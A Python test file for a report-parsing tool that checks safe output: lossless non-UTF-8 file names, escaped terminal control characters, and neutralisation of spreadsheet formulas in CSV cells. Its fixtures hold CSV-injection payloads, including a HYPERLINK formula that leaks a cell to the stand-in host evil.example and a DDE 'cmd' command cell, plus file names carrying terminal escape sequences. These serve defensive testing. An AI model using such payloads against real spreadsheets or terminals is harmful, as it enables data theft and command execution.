"""Writers that never break and never harm: file names that are not UTF-8, control characters in
names (terminal and CSV), and cells a spreadsheet would run as formulas (``--excel``)."""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import reportparse
from reportparse.output.cells import neutralise_formula, restore_cells, safe_cells
from reportparse.output.folder import read_output
from reportparse.output.writers import write_csv
from reportparse.tables import datapackage
from reportparse.tables.names import escape_text, unescape_text
from reportparse.tables.schema import TABLES as SCHEMA
from tests.cli.test_cli import run

SAMPLE_TEXT = reportparse.sample_report_path().read_text(encoding="utf-8")
TABLE_FILES = ("documents", "sections", "dates", "organizations", "counts", "references", "errors")

linux_names = pytest.mark.skipif(
    not sys.platform.startswith("linux"), reason="file names as arbitrary bytes (Linux file systems)"
)


def read(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")


def variant(index: int) -> str:
    return SAMPLE_TEXT.replace("2023-cü il üzrə", f"{2000 + index}-cü il üzrə")


# --- names that are not UTF-8 ---------------------------------------------------------------

_TRICKY = st.sampled_from(["\\", "x", "u", "5", "c", "d", "8", "a", "f", "\udcc7", "\ud800", "\udfff", "ə"])


@given(st.lists(st.one_of(_TRICKY, st.characters(exclude_categories=())), max_size=30).map("".join))
def test_escaping_a_name_is_valid_utf8_and_reversible(text):
    escaped = escape_text(text)
    escaped.encode("utf-8")  # never raises: no surrogate left
    assert unescape_text(escaped) == text
    if "\\" not in text and not any(0xD800 <= ord(c) <= 0xDFFF for c in text):
        assert escaped == text, "valid text without backslashes is never changed"


def test_escaping_keeps_windows_paths_and_restores_the_bytes():
    assert escape_text("C:\\reports\\2023\\x.pdf") == "C:\\reports\\2023\\x.pdf"
    name = os.fsdecode(b"hesabat-\xc7\xe0\xf0.txt")  # CP1251 bytes, as Linux gives them to Python
    assert escape_text(name) == "hesabat-\\xc7\\xe0\\xf0.txt"
    assert os.fsencode(unescape_text(escape_text(name))) == b"hesabat-\xc7\xe0\xf0.txt"
    assert escape_text("a\\xc7") == "a\\x5cxc7" and unescape_text("a\\x5cxc7") == "a\\xc7"


@linux_names
@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_a_file_name_that_is_not_utf8_is_written_losslessly_and_resumes(tmp_path, fmt):
    folder = tmp_path / "in"
    folder.mkdir()
    good, broken = b"hesabat-\xc7\xe0.txt", b"pozuk-\xc7.txt"
    (folder / os.fsdecode(good)).write_text(variant(1), encoding="utf-8")
    (folder / os.fsdecode(broken)).write_bytes(b"hesabat \xc3\x28 pozulub")  # not UTF-8 inside either
    (folder / "plain.txt").write_text(variant(2), encoding="utf-8")
    out = tmp_path / "out"
    first = run("parse", str(folder), "--out", str(out), "--format", fmt, "--jobs", "1")
    assert first.returncode == 3, first.stderr  # the broken file failed, the others were parsed
    assert "Traceback" not in first.stderr and "\\xc7" in first.stderr
    documents = read_output(out, fmt=fmt)["documents"]
    assert sorted(os.fsencode(unescape_text(path)) for path in documents["path"]) == sorted(
        [os.fsencode(folder / os.fsdecode(good)), os.fsencode(folder / "plain.txt")]
    )
    errors = read(out / "errors.csv")
    assert [os.fsencode(unescape_text(path)) for path in errors["path"]] == [os.fsencode(folder) + b"/" + broken]
    before = {name: (out / f"{name}.{fmt}").read_bytes() for name in TABLE_FILES[:-1]}

    resumed = run("parse", str(folder), "--out", str(out), "--format", fmt, "--resume", "--jobs", "1")
    assert resumed.returncode == 3 and "0 parsed, 1 failed, 2 already in" in resumed.stderr, resumed.stderr
    for name, content in before.items():
        assert (out / f"{name}.{fmt}").read_bytes() == content, f"{name} changed on --resume"
    assert datapackage.validate(out) == []
    descriptor = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    documents_fields = next(r["schema"]["fields"] for r in descriptor["resources"] if r["name"] == "documents")
    path_field = next(field for field in documents_fields if field["name"] == "path")
    assert "\\xNN" in path_field["description"], "the scheme is documented in datapackage.json"


@linux_names
def test_parse_many_and_to_csv_accept_such_a_name(tmp_path):
    (tmp_path / os.fsdecode(b"\xc7.txt")).write_text(variant(3), encoding="utf-8")
    corpus = reportparse.parse_many(tmp_path, jobs=0, progress=False)
    assert len(corpus) == 1 and corpus.documents["path"].item().endswith("\\xc7.txt")
    corpus.to_csv(tmp_path / "out")
    assert read(tmp_path / "out" / "documents.csv")["path"].item() == corpus.documents["path"].item()


@linux_names
def test_control_characters_in_names_are_escaped_on_the_terminal_and_quoted_in_csv(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    tricky = "a\x1b[2J\x1b]0;pwned\x07b\rc\nd\x9b.txt"
    (folder / tricky).write_text("Hesabat\n\n5 may 2022-ci il tarixdə görüş keçirilmişdir.\n", encoding="utf-8")
    (folder / "e\x1b[31mbroken\r.txt").write_bytes(b"")  # empty: fails, so its name is printed
    (folder / "f.txt").write_text(variant(5), encoding="utf-8")
    out = tmp_path / "out"
    result = run("parse", str(folder), "--out", str(out), "--jobs", "1")
    assert result.returncode == 3, result.stderr
    assert not any(c in result.stderr for c in "\x1b\r\x07\x9b"), "no control character reaches the terminal"
    assert "a\\x1b[2J\\x1b]0;pwned\\x07b\\x0dc\\x0ad\\x9b.txt: no plan-item headings" in result.stderr  # a warning
    assert "e\\x1b[31mbroken\\x0d.txt: the report holds no text" in result.stderr  # an error
    assert all(line.startswith("reportparse: ") for line in result.stderr.splitlines()), "no forged line"
    raw = (out / "documents.csv").read_bytes().decode("utf-8")
    assert f'"{folder / tricky}"' in raw, "a cell holding CR or LF is quoted"
    assert sorted(read(out / "documents.csv")["path"]) == sorted([str(folder / tricky), str(folder / "f.txt")])
    before = {name: (out / f"{name}.csv").read_bytes() for name in TABLE_FILES}
    resumed = run("parse", str(folder), "--out", str(out), "--resume", "--jobs", "1")
    assert resumed.returncode == 3 and "2 already in" in resumed.stderr, resumed.stderr
    for name, content in before.items():
        assert (out / f"{name}.csv").read_bytes() == content, f"--resume changed {name}.csv"


def test_a_bare_carriage_return_is_quoted_and_reads_back_as_one_cell(tmp_path):
    frame = pd.DataFrame({"path": ["a\rb.txt", 'q"\r\n.txt', "plain.txt"], "n": [1, 2, 3]})
    write_csv(frame, tmp_path / "t.csv")
    raw = (tmp_path / "t.csv").read_bytes()
    assert raw == b'path,n\n"a\rb.txt",1\n"q""\r\n.txt",2\nplain.txt,3\n'
    assert read(tmp_path / "t.csv")["path"].tolist() == frame["path"].tolist()


# --- formulas -------------------------------------------------------------------------------

EVIL_REPORT = """=HYPERLINK("http://evil.example/?leak="&A1,"Bax") HESABAT

1-ci bəndin icrasına dair (=cmd|' /C calc'!A0):
-2+3+cmd|x 5 may 2022-ci il tarixdə 12 nəfər iştirak etmişdir.

2-ci bəndin icrasına dair (@SUM(A1)):
+1 Hesabat dekabrın 30-dək Nazirlər Kabinetinə təqdim edilmişdir.

3-ci bəndin icrasına dair (+1):
'sitat ilə başlayan mətn.
"""

TRIGGERED = {
    ("documents", "title"): '=HYPERLINK("http://evil.example/?leak="&A1,"Bax") HESABAT',
    ("sections", "commitment"): "=cmd|' /C calc'!A0",
    ("sections", "text"): "-2+3+cmd|x 5 may 2022-ci il tarixdə 12 nəfər iştirak etmişdir.",
}


@pytest.fixture
def evil_inputs(tmp_path) -> Path:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "=inj.txt").write_text(EVIL_REPORT, encoding="utf-8")
    (folder / "@bad.pdf").write_bytes(b"%PDF-1.7 not really")
    return folder


def _cells(frame: pd.DataFrame) -> set[str]:
    return {value for column in frame.columns for value in frame[column]}


def test_excel_neutralises_formulas_and_plain_csv_stays_verbatim(evil_inputs, tmp_path):
    excel, plain = tmp_path / "excel", tmp_path / "plain"
    for out, extra in ((excel, ["--excel"]), (plain, [])):
        result = run("parse", "=inj.txt", "@bad.pdf", "--out", str(out), "--jobs", "1", *extra, cwd=evil_inputs)
        assert result.returncode == 3, result.stderr
    for (table, column), value in TRIGGERED.items():
        assert value in read(plain / f"{table}.csv")[column].tolist(), "plain CSV keeps every cell as it is"
        assert "'" + value in read(excel / f"{table}.csv")[column].tolist(), (table, column)
    sections = read(excel / "sections.csv")
    assert {"'@SUM(A1)", "'+1"} <= set(sections["commitment"]) and "'+1 Hesabat" in "".join(sections["text"])
    assert "''sitat ilə başlayan mətn." in set(sections["text"]), "a leading quote is kept (doubled)"
    assert read(excel / "documents.csv")["path"].tolist() == ["'=inj.txt"]
    assert read(excel / "errors.csv")["path"].tolist() == ["'@bad.pdf"]
    for name in TABLE_FILES:  # no text cell of any table starts a formula
        frame = read(excel / f"{name}.csv")
        for column in frame.columns:
            if SCHEMA[name].column(column).type == "string":
                assert not frame[column].str.startswith(("=", "+", "-", "@", "\t", "\r")).any(), (name, column)
    numbers = ["start", "end", "value"]
    assert read(excel / "counts.csv")[numbers].equals(read(plain / "counts.csv")[numbers]), "numbers untouched"
    assert datapackage.validate(excel) == []


def test_excel_resume_reads_neutralised_cells_back_exactly(evil_inputs, tmp_path):
    (evil_inputs / "plain.txt").write_text(variant(6), encoding="utf-8")
    out, fresh = tmp_path / "out", tmp_path / "fresh"
    assert run("parse", "=inj.txt", "--out", str(out), "--excel", cwd=evil_inputs).returncode == 0
    tables = read_output(out)
    assert tables["documents"]["title"].item() == TRIGGERED[("documents", "title")], "quotes taken away on reading"
    resumed = run("parse", "=inj.txt", "plain.txt", "--out", str(out), "--excel", "--resume", cwd=evil_inputs)
    assert resumed.returncode == 0 and "1 already in" in resumed.stderr, resumed.stderr
    assert run("parse", "=inj.txt", "plain.txt", "--out", str(fresh), "--excel", cwd=evil_inputs).returncode == 0
    for name in TABLE_FILES:
        assert (out / f"{name}.csv").read_bytes() == (fresh / f"{name}.csv").read_bytes(), name


def test_api_to_csv_excel_neutralises_too(evil_inputs, tmp_path):
    report = reportparse.parse(evil_inputs / "=inj.txt")
    report.to_csv(tmp_path / "excel", excel=True)
    report.to_csv(tmp_path / "plain")
    assert read(tmp_path / "excel" / "documents.csv")["title"].item().startswith("'=HYPERLINK(")
    assert read(tmp_path / "plain" / "documents.csv")["title"].item().startswith("=HYPERLINK(")


def test_only_text_columns_are_neutralised_and_restoring_inverts_it():
    counts = pd.DataFrame(
        {"doc_id": ["d"], "text": ["-5 faiz"], "start": [-1], "value": [-2.5], "unit": ["=x"], "extra": ["-3"]}
    )
    safe = safe_cells(counts, "counts", excel=True)
    assert safe.iloc[0].to_dict() == {
        "doc_id": "d",
        "text": "'-5 faiz",
        "start": -1,
        "value": -2.5,
        "unit": "'=x",
        "extra": "-3",  # a column the schema does not know: a number stays a number
    }
    assert safe_cells(counts, "counts") is counts, "plain output: nothing changes"
    read_back = safe.astype(str)
    assert restore_cells(read_back, "counts")[["text", "unit", "extra"]].iloc[0].tolist() == ["-5 faiz", "=x", "-3"]
    assert [neutralise_formula(c) for c in ("\tx", "\rx", "x=1", "")] == ["'\tx", "'\rx", "x=1", ""]
